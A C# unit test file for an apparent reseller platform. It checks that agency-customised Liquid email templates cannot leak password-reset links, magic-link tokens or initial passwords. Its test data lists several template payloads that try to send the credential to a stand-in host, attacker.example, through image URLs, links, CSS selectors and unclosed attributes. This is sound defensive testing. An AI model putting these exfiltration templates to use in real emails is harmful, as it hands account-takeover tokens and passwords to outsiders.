using System.Text.RegularExpressions;
using ResellerKit.Themes.Email;
using ResellerKit.Themes.Packages;
using ResellerKit.Themes.Preview;
using ResellerKit.Themes.Views;

namespace ResellerKit.Tests.Unit.Themes;

/// <summary>
/// Issue 13, item 2: an agency's email template brands a reset, magic-link, invitation or credentials email, but never
/// sees its link or password: the system places them where the template prints <c>{{ credential }}</c>, as text only.
/// </summary>
public sealed partial class CredentialEmailTests
{
    private const string Token = "CfDJ8-reset-token-4f1a9c";
    private const string Link = "https://app.example/admin/set-password?user=42&token=" + Token;
    private const string Password = "Initial-Pass-77x";

    private readonly ThemeTestKit kit = new();

    private static EmailView Model() => new(
        DemoStorefront.Shop(), new FooterView("Northwind Growth", null, null, "help@northwind.example", null, null),
        "Ada", "ada@client.example", ActionUrl: Link, ExpiresAt: DemoStorefront.Today.AddHours(1), Password: Password);

    /// <summary>Overrides that try to send the credential elsewhere, each as an agency could save it.</summary>
    public static TheoryData<string, string> Exfiltrations => new()
    {
        { "reads action_url into an image", "<img src=\"https://attacker.example/p.gif?u={{ action_url | url_encode }}&p={{ password }}\">{{ credential }}" },
        { "puts the marker in an image", "<img src=\"https://attacker.example/p.gif?u={{ credential }}\">" },
        { "puts a captured marker in an image", "{% capture c %}{{ credential }}{% endcapture %}<p>Hi</p><img src=\"https://attacker.example/p.gif?u={{ c | url_encode }}\">" },
        { "hides the marker in an unclosed attribute", "<img alt=\">\" src=\"https://attacker.example/p.gif?u={{ credential }}" },
        { "wraps the marker in its own link", "<a href=\"https://attacker.example/\">{{ credential }}</a>" },
        { "selects on the link with CSS", "<style>a[href*=\"token=C\"]{background:url(https://attacker.example/c.gif)}</style>{{ credential }}" },
        { "prints the marker twice", "{{ credential }}<p>again</p>{{ credential }}" },
        { "prints the marker in a comment", "<!-- {{ credential }} --><p>nothing</p>" },
        { "forgets the marker", "<p>Reset it.</p><img src=\"https://attacker.example/p.gif\">" },
    };

    [Theory]
    [MemberData(nameof(Exfiltrations))]
    public async Task RenderAsync_OverrideReachingForTheCredential_NeverSendsItAnywhere(string attempt, string body)
    {
        var email = await kit.Emails.RenderAsync(Override(body), EmailMessageKind.PasswordReset, Model(), Ct);

        foreach (Match url in AttackerUrl().Matches(email.Html))
        {
            url.Value.ShouldNotContain(Token[..12], customMessage: attempt);
            url.Value.ShouldNotContain(Password, customMessage: attempt);
        }
        email.Html.ShouldNotContain("<style", Case.Insensitive, attempt);
        email.Html.ShouldContain($"href=\"{Link.Replace("&", "&amp;", StringComparison.Ordinal)}\"", customMessage: attempt);
        email.Text.ShouldContain(Link, customMessage: attempt);
    }

    [Fact]
    public async Task RenderAsync_OverrideReadingActionUrl_RendersItsBrandingWithTheSystemsLink()
    {
        var email = await kit.Emails.RenderAsync(Override("<h2>Northwind security</h2><p>Hello {{ recipient_name }}. [{{ action_url }}]</p>{{ credential }}<p>Bye</p>"),
            EmailMessageKind.PasswordReset, Model(), Ct);

        email.OverrideError.ShouldBeNull();
        email.Html.ShouldContain("<h2>Northwind security</h2><p>Hello Ada. []</p>");
        email.Html.IndexOf("Bye", StringComparison.Ordinal).ShouldBeGreaterThan(email.Html.IndexOf(Token, StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("<img src=\"https://attacker.example/p.gif?u={{ credential }}\">", "never inside a tag")]
    [InlineData("{{ credential }}{{ credential }}", "at most once")]
    [InlineData("<a href=\"https://attacker.example/\">{{ credential }}</a>", "inside a link")]
    public async Task RenderAsync_MarkerOutsideText_FallsBackToTheBuiltInAndSaysWhy(string body, string reason)
    {
        var email = await kit.Emails.RenderAsync(Override(body), EmailMessageKind.PasswordReset, Model(), Ct);

        email.Subject.ShouldBe("Reset your Northwind Growth password");
        email.OverrideError!.Message.ShouldContain(reason);
    }

    [Fact]
    public async Task RenderAsync_CredentialsEmail_ShowsThePasswordOnlyInTheSystemsBlock()
    {
        var theme = Override("<p>Welcome {{ password }}{{ recipient_email }}</p>{{ credential }}", "sub-account-credentials");

        var email = await kit.Emails.RenderAsync(theme, EmailMessageKind.SubAccountCredentials, Model(), Ct);

        email.Html.ShouldContain("<p>Welcome ada@client.example</p>");
        Regex.Matches(email.Html, Password).Count.ShouldBe(1);
        email.Text.ShouldContain($"Password: {Password}");
    }

    [Fact]
    public async Task RenderAsync_ThemeFileNamedLikeTheSystemBlock_IsNeverUsed()
    {
        var theme = ThemeSource.Create("agency-mail", BuiltInThemes.Aurora, new Dictionary<string, string>
        {
            [CredentialBlock.TemplatePath] = "<img src=\"https://attacker.example/p.gif?u={{ action_url }}\">",
        });

        var email = await kit.Emails.RenderAsync(theme, EmailMessageKind.MagicLink, Model(), Ct);

        email.Html.ShouldNotContain("attacker.example");
        email.Html.ShouldContain(Token);
    }

    private static ThemeSource Override(string body, string kind = "password-reset") =>
        ThemeSource.Create("agency-mail", BuiltInThemes.Aurora, new Dictionary<string, string>
        {
            [$"email/{kind}.liquid"] = "{% capture subject %}Your reset{% endcapture %}{% capture text %}Reset: {{ action_url }}{{ credential }}{% endcapture %}" + body,
        });

    [GeneratedRegex(@"https://attacker\.example[^""'\s>]*")]
    private static partial Regex AttackerUrl();
}
